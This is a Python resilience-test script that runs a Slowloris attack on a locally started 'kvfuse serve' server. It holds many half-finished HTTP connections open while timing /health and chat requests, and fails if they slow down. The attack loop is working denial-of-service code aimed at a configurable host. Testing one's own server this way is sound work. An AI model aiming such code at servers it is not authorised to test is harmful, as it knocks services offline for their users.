#!/usr/bin/env python3
"""Slowloris against a running `kvfuse serve`: CONNECTIONS connections from SOURCE each send a
request line and then one header line every INTERVAL seconds, never finishing, and reconnect
when the server cuts them. Meanwhile another client (from 127.0.0.1) asks /health and a short
chat completion once a second. Prints the slowest answers; exits 1 if any took over 1 s or
failed.

  build/kvfuse serve -m models/demo.gguf --port 8080 &
  python3 tools/probe/slowloris.py --port 8080 --seconds 60
"""
import argparse
import json
import socket
import threading
import time
import urllib.request


def attacker(args, stop, stats):
    socks = [None] * args.connections
    while not stop.is_set():
        for i, s in enumerate(socks):
            try:
                if s is None:
                    s = socket.socket()
                    s.bind((args.source, 0))
                    s.connect((args.host, args.port))
                    s.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n")
                    stats["opened"] += 1
                s.sendall(b"X-Slow: 1\r\n")
                socks[i] = s
            except OSError:
                stats["cut"] += 1
                if s is not None:
                    s.close()
                socks[i] = None
        stop.wait(args.interval)
    for s in socks:
        if s is not None:
            s.close()


def timed(request):
    start = time.monotonic()
    try:
        with urllib.request.urlopen(request, timeout=5) as r:
            r.read()
            ok = r.status == 200
    except OSError:
        ok = False
    return ok, time.monotonic() - start


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, default=8080)
    p.add_argument("--source", default="127.0.0.2", help="the attacker's address (any 127.x on Linux)")
    p.add_argument("--connections", type=int, default=200)
    p.add_argument("--interval", type=float, default=4.0)
    p.add_argument("--seconds", type=float, default=60.0)
    args = p.parse_args()
    stop, stats = threading.Event(), {"opened": 0, "cut": 0}
    t = threading.Thread(target=attacker, args=(args, stop, stats))
    t.start()
    time.sleep(2)
    base = f"http://{args.host}:{args.port}"
    chat = json.dumps({"messages": [{"role": "user", "content": "Where does Julia Oyelaran live?"}],
                       "max_tokens": 4, "temperature": 0}).encode()
    worst = {"health": 0.0, "chat": 0.0}
    failures = probes = 0
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        for name, req in (("health", urllib.request.Request(base + "/health")),
                          ("chat", urllib.request.Request(base + "/v1/chat/completions", data=chat,
                                                          headers={"Content-Type": "application/json"}))):
            ok, seconds = timed(req)
            probes += 1
            failures += (not ok) or seconds > 1.0
            worst[name] = max(worst[name], seconds)
        time.sleep(1)
    stop.set()
    t.join()
    print(f"{args.connections} slow connections for {args.seconds:.0f} s: {stats['opened']} opened, "
          f"{stats['cut']} cut or refused by the server; {probes} probes, {failures} slow or failed; "
          f"slowest /health {worst['health'] * 1000:.0f} ms, slowest chat {worst['chat'] * 1000:.0f} ms")
    return 1 if failures else 0


if __name__ == "__main__":
    raise SystemExit(main())
